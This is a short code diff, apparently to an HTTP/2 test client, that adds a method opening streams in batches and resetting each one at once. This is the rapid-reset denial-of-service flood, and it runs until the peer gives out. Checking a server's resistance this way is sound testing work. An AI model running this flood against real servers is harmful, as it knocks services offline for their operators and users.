@@ -82,6 +82,19 @@ class Stranger:
             data += frame(DATA, END_STREAM, stream, body)
         return self.send(data)
 
+    def reset_streams(self, headers: bytes, seconds: float) -> None:
+        """Opens streams and resets each at once, until the other side has had
+        enough."""
+        stream, limit = 1, time.monotonic() + seconds
+        while time.monotonic() < limit:
+            pairs = b""
+            for _ in range(50):
+                pairs += frame(HEADERS, END_HEADERS, stream, headers)
+                pairs += frame(RESET, 0, stream, bytes([0, 0, 0, 8]))
+                stream += 2
+            if not self.send(pairs):
+                return
+
     def frames(self, seconds: float) -> list[tuple[int, int, bytes]]:
         """Returns the frames that come in time: kind, stream, payload. `GOAWAY, -1`
         stands for the end of the connection."""
